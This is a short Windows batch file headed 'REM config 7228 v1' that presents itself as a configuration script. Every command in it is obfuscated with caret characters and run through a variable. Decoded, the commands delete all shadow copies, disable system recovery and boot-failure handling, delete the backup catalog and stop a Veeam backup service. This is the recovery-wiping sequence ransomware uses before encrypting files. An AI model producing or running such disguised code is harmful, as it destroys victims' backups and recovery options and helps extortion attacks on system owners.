REM config 7228 v1
@echo off
set cpll=^vss^a^dm^in del^et^e ^sh^adow^s /al^l /qu^i^et
call %cpll%
@echo off
set vgpz=wm^i^c ^s^h^a^do^w^cop^y delete
call %vgpz%
@echo off
set wwfw=^bcd^e^di^t /^se^t {^d^efaul^t} r^e^co^ver^ye^n^abl^e^d ^no
call %wwfw%
@echo off
set ahvr=b^c^dedi^t /set {defa^u^l^t} bo^o^t^s^t^at^u^s^po^li^c^y ^i^g^noreal^l^fai^lu^r^es
call %ahvr%
@echo off
set mpkj=^wb^admin del^e^te ^cat^alo^g -^quie^t
call %mpkj%
@echo off
set ydaz=^n^e^t ^s^top "Veeam Backup Catalog Data Service" /^y
call %ydaz%
